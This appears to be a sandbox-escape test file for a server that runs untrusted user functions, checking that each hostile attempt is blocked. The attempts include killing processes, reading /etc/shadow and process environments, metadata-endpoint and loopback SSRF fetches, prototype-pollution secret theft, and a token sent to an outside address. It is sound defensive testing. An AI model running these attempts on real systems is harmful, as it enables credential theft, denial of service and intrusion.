import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { makeTestConfig, type SpawnedServer, spawnServer } from "../support/server.ts";

// SPEC 7: functions are untrusted code, isolated by the operating system. A hostile
// function tries every escape we know of; each must end as an error inside the
// function, and the server (a real `sluice serve`, so a kill would really land)
// must stay up and keep serving, through /api/funcs and through delivery.

/** Each attempt: a name and code that should throw (or return a refusal). */
const ATTEMPTS: Record<string, string> = {
  killParent: `process.kill(process.ppid, "SIGKILL")`,
  killVictim: `process.kill(Number(p.VICTIM), "SIGKILL")`,
  listProc: `return readdirSync("/proc").length`,
  serverStatus: `return readFileSync("/proc/" + process.ppid + "/status", "utf8").slice(0, 40)`,
  serverEnviron: `return readFileSync("/proc/" + process.ppid + "/environ", "utf8")`,
  readConfig: `return readFileSync(p.CONFIG, "utf8")`,
  readConfigBun: `return await Bun.file(p.CONFIG).text()`,
  readConfigAsync: `return await readFile(p.CONFIG, "utf8")`,
  readStateDb: `return readFileSync(p.DATA + "/state.db").length`,
  listDataDir: `return readdirSync(p.DATA).join(",")`,
  readShadow: `return readFileSync("/etc/shadow", "utf8")`,
  readShadowViaRoot: `return readFileSync("/proc/self/root/etc/shadow", "utf8")`,
  readPasswd: `return readFileSync("/etc/passwd", "utf8")`,
  bunSpawn: `const r = Bun.spawnSync(["kill", "-9", p.VICTIM]); return "exit " + r.exitCode`,
  bunSpawnCat: `const proc = Bun.spawn(["cat", "/etc/shadow"], { stdout: "pipe" }); return await new Response(proc.stdout).text()`,
  childProcess: `const cp = await import("node:child_process"); return cp.execSync("kill -9 " + p.VICTIM + "; cat /etc/shadow").toString()`,
  ffiKill: `const { dlopen, FFIType } = await import("bun:ffi");
    const libc = dlopen("libc.so.6", { syscall: { args: [FFIType.i64, FFIType.i64, FFIType.i64], returns: FFIType.i64 } });
    const rc = libc.symbols.syscall(62n, BigInt(process.ppid), 9n);
    if (rc < 0n) throw new Error("kill refused: " + rc);
    return "kill returned " + rc`,
  ffiSocket: `const { dlopen, FFIType } = await import("bun:ffi");
    const libc = dlopen("libc.so.6", { socket: { args: [FFIType.i32, FFIType.i32, FFIType.i32], returns: FFIType.i32 } });
    const fd = libc.symbols.socket(2, 1, 0);
    if (fd < 0) throw new Error("socket refused");
    return "socket " + fd`,
  ffiPtrace: `const { dlopen, FFIType } = await import("bun:ffi");
    const libc = dlopen("libc.so.6", { ptrace: { args: [FFIType.i64, FFIType.i32, FFIType.u64, FFIType.u64], returns: FFIType.i64 } });
    const rc = libc.symbols.ptrace(16n, process.ppid, 0n, 0n);
    if (rc < 0n) throw new Error("ptrace refused");
    return "attached " + rc`,
  writeOwnFolder: `writeFileSync(import.meta.dir + "/evil.js", "export default () => {}"); return "written"`,
  writeTmp: `writeFileSync("/tmp/sluice-evil-" + process.pid, "x"); return "written"`,
  rawSocket: `return await new Promise((ok, fail) => { const s = net.createConnection(Number(p.SERVER_PORT), "127.0.0.1", () => ok("connected")); s.on("error", fail); })`,
  bunConnect: `await Bun.connect({ hostname: "127.0.0.1", port: Number(p.SERVER_PORT), socket: { data() {} } }); return "connected"`,
  globalFetch: `return (await fetch("http://127.0.0.1:" + p.SERVER_PORT + "/health")).status`,
  fetchLoopback: `return (await ctx.fetch("http://127.0.0.1:" + p.SERVER_PORT + "/health")).status`,
  fetchLocalhost: `return (await ctx.fetch("http://localhost:" + p.SERVER_PORT + "/health")).status`,
  fetchIpv6Loopback: `return (await ctx.fetch("http://[::1]:" + p.SERVER_PORT + "/health")).status`,
  fetchMapped: `return (await ctx.fetch("http://[::ffff:127.0.0.1]:" + p.SERVER_PORT + "/health")).status`,
  fetchDecimal: `return (await ctx.fetch("http://2130706433:" + p.SERVER_PORT + "/health")).status`,
  fetchMetadata: `return (await ctx.fetch("http://169.254.169.254/latest/meta-data/", { timeoutMs: 500 })).status`,
  fetchPrivate: `return (await ctx.fetch("http://10.0.0.1/", { timeoutMs: 500 })).status`,
  fetchFile: `return await (await ctx.fetch("file:///etc/passwd")).text()`,
  fetchRedirectToLoopback: `return (await ctx.fetch(p.UPSTREAM + "/redirect")).status`,
};

const ESCAPE = `import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import net from "node:net";
export default async (e, ctx) => {
  const p = ctx.props;
  const tries = {};
  ${Object.entries(ATTEMPTS)
    .map(
      ([name, body]) => `try {
    const value = await (async () => { ${body} })();
    tries.${name} = "ESCAPED: " + String(value).slice(0, 80);
  } catch (err) {
    tries.${name} = "blocked: " + (err?.code ?? err?.name ?? "error") + " " + String(err?.message).slice(0, 120);
  }`,
    )
    .join("\n  ")}
  // The one fetch that is allowed: a listed network.
  tries.allowedFetch = await (await ctx.fetch(p.UPSTREAM + "/ok")).text();
  e.tries = tries;
};`;

const FILES: Record<string, string> = {
  "fn/escape.js": ESCAPE,
  "fn/tag.js": "export default (e) => { e.tagged = true; };",
  // One connection patches every global it can and keeps what it sees...
  "fn/patch.js": `export default async (e, ctx) => {
    if (e.properties?.phase === "patch") {
      globalThis.stolen = [];
      const stringify = JSON.stringify;
      JSON.stringify = function (v, ...rest) { try { globalThis.stolen.push(stringify(v)); } catch {} return stringify(v, ...rest); };
      Object.prototype.polluted = "yes";
      Object.defineProperty(Object.prototype, "API_TOKEN", { get() { globalThis.stolen.push("getter"); return "fake"; }, configurable: true });
      Array.prototype.push = function (...items) { (globalThis.stolen ?? []).concat(items); return 0; };
      globalThis.fetch = async (url, init) => { globalThis.stolen.push(String(url) + JSON.stringify(init)); return new Response("x"); };
      e.patched = true;
    } else {
      e.stolen = (globalThis.stolen ?? []).join("|");
    }
  };`,
  // ...another one uses those globals with its own secret props.
  "fn/secretive.js": `export default async (e, ctx) => {
    e.json = JSON.stringify(ctx.props);
    e.polluted = ({}).polluted ?? null;
    e.token = ctx.props.API_TOKEN;
    e.proto = Object.getOwnPropertyNames(Object.prototype).includes("API_TOKEN");
    try { await fetch("http://203.0.113.9/?t=" + ctx.props.API_TOKEN); } catch {}
  };`,
  // Writes garbage, then an endless line, on the host's channel to the server.
  "fn/garbage.js": `export default (e) => { process.stdout.write("not json\\n"); };`,
  "fn/flood.js": `export default () => { const chunk = "x".repeat(1 << 20); for (let i = 0; i < 200; i++) process.stdout.write(chunk); };`,
  // Tries to blind the watchdog by moving the clock, then loops.
  "fn/clock.js": `export default () => { Date.now = () => 1e15; performance.now = () => 1e15; Atomics.store = () => 0; };`,
  "fn/loop.js": "export default () => { for (;;) {} };",
};

const con = (id: string, functions: string[], env: Record<string, string> = {}) => ({
  id,
  source: "web",
  destination: { type: "device" },
  functions,
  env,
});

let server: SpawnedServer;
let made: ReturnType<typeof makeTestConfig>;
let victim: ReturnType<typeof Bun.spawn>;
let upstream: ReturnType<typeof Bun.serve>;

beforeAll(async () => {
  victim = Bun.spawn(["sleep", "600"]);
  // An allowed upstream on another loopback address: allowNetworks lists it alone.
  upstream = Bun.serve({
    hostname: "127.0.0.2",
    port: 0,
    fetch(req) {
      const path = new URL(req.url).pathname;
      if (path === "/redirect") {
        return Response.redirect(`http://127.0.0.1:${serverPort}/health`, 302);
      }
      return new Response("fine");
    },
  });
  made = makeTestConfig({
    files: FILES,
    config: {
      functionRuntime: { workers: 1, allowNetworks: ["127.0.0.2/32"] },
      functions: [
        { id: "escape", file: "./fn/escape.js", timeoutMs: 15_000 },
        { id: "tag", file: "./fn/tag.js" },
        { id: "patch", file: "./fn/patch.js" },
        { id: "secretive", file: "./fn/secretive.js" },
        { id: "garbage", file: "./fn/garbage.js" },
        { id: "flood", file: "./fn/flood.js" },
        { id: "clock", file: "./fn/clock.js" },
        { id: "loop", file: "./fn/loop.js", timeoutMs: 500 },
      ],
      connections: [
        con("c_escape", ["escape", "tag"]),
        {
          ...con("c_deliver", ["escape", "tag"]),
          destination: { type: "file", path: "./out/delivered.ndjson", maxWaitMs: 10 },
        },
        con("c_patch", ["patch"]),
        con("c_secret", ["secretive"], { API_TOKEN: "b-secret-token" }),
        con("c_garbage", ["garbage"]),
        con("c_flood", ["flood"]),
        con("c_clock", ["clock", "loop"]),
      ],
    },
  });
  // The props are only known once the paths are: the escape connections get them now.
  const config = JSON.parse(readFileSync(made.configFile, "utf8"));
  serverPort = await freePort();
  config.server.port = serverPort;
  const props = {
    CONFIG: made.configFile,
    DATA: made.dataDir,
    VICTIM: String(victim.pid),
    SERVER_PORT: String(serverPort),
    UPSTREAM: `http://127.0.0.2:${upstream.port}`,
  };
  for (const c of config.connections) if (c.functions.includes("escape")) c.env = props;
  await Bun.write(made.configFile, JSON.stringify(config, null, 2));
  server = await spawnServer(made.configFile, {}, 60_000);
}, 90_000);

afterAll(async () => {
  server?.proc.kill(9);
  victim.kill(9);
  upstream.stop(true);
  // Once the server has exited, so that it creates nothing in the folder after its removal.
  await server?.proc.exited;
  rmSync(made.dir, { recursive: true, force: true });
});

let serverPort = 0;

async function freePort(): Promise<number> {
  const s = Bun.serve({ port: 0, fetch: () => new Response() });
  const port = s.port!;
  s.stop(true);
  return port;
}

async function run(conId: string, properties: Record<string, unknown> = {}) {
  const res = await fetch(`${server.url}/api/funcs/${conId}`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-write-key": made.keys.server },
    body: JSON.stringify({ type: "track", event: "e", userId: "u", properties }),
  });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : undefined };
}

/** The server (and the victim) are alive and answer. */
async function expectServerUp() {
  expect(server.proc.exitCode).toBeNull();
  expect((await fetch(`${server.url}/health`)).status).toBe(200);
  expect(victim.exitCode).toBeNull();
}

test("every escape from /api/funcs ends as an error inside the function; the server stays up", async () => {
  const { status, body } = await run("c_escape");
  expect(status).toBe(200);
  const tries = body.events[0].tries as Record<string, string>;
  const escaped = Object.entries(tries).filter(
    ([k, v]) => k !== "allowedFetch" && !v.startsWith("blocked"),
  );
  expect(escaped).toEqual([]);
  expect(Object.keys(tries)).toHaveLength(Object.keys(ATTEMPTS).length + 1);
  expect(tries.allowedFetch).toBe("fine");
  expect(body.events[0].tagged).toBe(true);
  await expectServerUp();
}, 60_000);

test("ctx.fetch refusals say why; the start log names no missing isolation here", async () => {
  const tries = (await run("c_escape")).body.events[0].tries as Record<string, string>;
  const loopback =
    "may not reach 127.0.0.1 (loopback); list its network in functionRuntime.allowNetworks";
  expect(tries.fetchLoopback).toContain(loopback);
  expect(tries.fetchLocalhost).toContain(loopback);
  expect(tries.fetchRedirectToLoopback).toContain(loopback);
  expect(tries.fetchIpv6Loopback).toContain("may not reach ::1 (loopback)");
  expect(tries.fetchMetadata).toContain("may not reach 169.254.169.254 (link-local)");
  expect(tries.fetchPrivate).toContain("may not reach 10.0.0.1 (private)");
  expect(tries.fetchFile).toContain("ctx.fetch allows http and https only, not file:");
  // Root on Linux 6.x: every layer is there, so nothing is said to be missing.
  if (process.getuid?.() === 0) expect(server.output()).not.toContain("function sandbox:");
}, 60_000);

test("the same escapes from a delivery connection: the events are delivered, the server stays up", async () => {
  const res = await fetch(`${server.url}/v1/track`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-write-key": made.keys.server },
    body: JSON.stringify({ event: "deliver me", userId: "u" }),
  });
  expect(res.status).toBe(200);
  const file = join(made.dir, "out", "delivered.ndjson");
  const deadline = Date.now() + 30_000;
  while (!existsSync(file) || readFileSync(file, "utf8").trim() === "") {
    if (Date.now() > deadline) throw new Error(`nothing delivered:\n${server.output()}`);
    await Bun.sleep(50);
  }
  const delivered = JSON.parse(readFileSync(file, "utf8").trim().split("\n")[0]!);
  expect(delivered.tagged).toBe(true);
  const escaped = Object.entries(delivered.tries as Record<string, string>).filter(
    ([k, v]) => k !== "allowedFetch" && !v.startsWith("blocked"),
  );
  expect(escaped).toEqual([]);
  await expectServerUp();
}, 60_000);

test("patched globals and prototypes of one connection reach no other connection's functions", async () => {
  expect((await run("c_patch", { phase: "patch" })).body.events[0].patched).toBe(true);
  const secret = (await run("c_secret")).body.events[0];
  expect(secret).toMatchObject({
    json: '{"API_TOKEN":"b-secret-token"}',
    polluted: null,
    token: "b-secret-token",
    proto: false,
  });
  const after = (await run("c_patch", { phase: "read" })).body.events[0];
  expect(after.stolen).not.toContain("b-secret-token");
  expect(after.stolen).not.toContain("getter");
}, 30_000);

test("garbage or an endless line on the host's channel costs that host, not the server", async () => {
  const rssBefore = rss(server.proc.pid);
  const garbage = await run("c_garbage");
  expect(garbage.status).toBeGreaterThanOrEqual(500);
  const flood = await run("c_flood");
  expect(flood.status).toBeGreaterThanOrEqual(500);
  // The server held at most one capped message of it (32 MB), not the 200 MB written.
  expect(rss(server.proc.pid) - rssBefore).toBeLessThan(120 * 1048576);
  await expectServerUp();
  expect(server.output()).toContain("wrote a message that is not JSON");
  // Other connections never noticed; the broken ones come back.
  expect((await run("c_secret")).status).toBe(200);
  const deadline = Date.now() + 20_000;
  let again = await run("c_garbage");
  while (again.status !== 200 && Date.now() < deadline) {
    await Bun.sleep(200);
    again = await run("c_garbage");
  }
}, 60_000);

test("a function that moves the clock cannot blind the watchdog: the loop after it is cut", async () => {
  const started = performance.now();
  const { status } = await run("c_clock");
  expect(status).toBe(504);
  expect(performance.now() - started).toBeLessThan(5000);
  await expectServerUp();
}, 30_000);

function rss(pid: number): number {
  const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
  return Number(m?.[1] ?? 0) * 1024;
}
